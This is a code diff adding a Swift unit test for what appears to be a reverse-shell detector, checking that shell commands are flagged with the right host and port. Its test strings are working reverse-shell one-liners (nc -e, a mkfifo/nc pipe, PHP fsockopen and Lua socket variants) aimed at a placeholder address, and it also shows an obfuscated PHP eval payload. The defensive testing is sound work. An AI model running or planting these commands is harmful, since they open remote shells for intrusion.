@@ -31,6 +31,21 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.port == 4242)
   }
 
+  /// Shells of which there are few, in a command and in code.
+  @Test(arguments: ["bsh", "pdksh", "mksh", "/bin/csh", "tcsh", "rbash", "pwsh", "/bin/busybox sh", "ash"])
+  func rareShellsAreShells(shell: String) {
+    for text in [
+      "nc -e \(shell) 198.51.100.9 4242", "nc -eu \(shell) 198.51.100.9 4242",
+      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|\(shell) -i 2>&1|nc 198.51.100.9 4242 >/tmp/f",
+      "php -r '$s=fsockopen(\"198.51.100.9\",4242);popen(\"\(shell) <&7 >&7 2>&7\", \"r\");'",
+      "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('198.51.100.9','4242');os.execute('\(shell) -i <&6 >&6 2>&6');\"",
+    ] {
+      let found = shells(text).first { $0.kind == .reverseShell }
+      #expect(found?.host == "198.51.100.9", "\(text)")
+      #expect(found?.port == 4242)
+    }
+  }
+
   /// Compressed without a header, letters turned once the Base64 is off, and a command in two halves.
   @Test(arguments: [
     "<?php eval(gzinflate(base64_decode('Uym2TSvOT87OL0jN01AytLTQMzXUMzQw0LNU0jExMjHStE6tSE3WUNJPyszTL85Q0M1UsFEzVrADYiMgoaRpDQA='))); ?>",
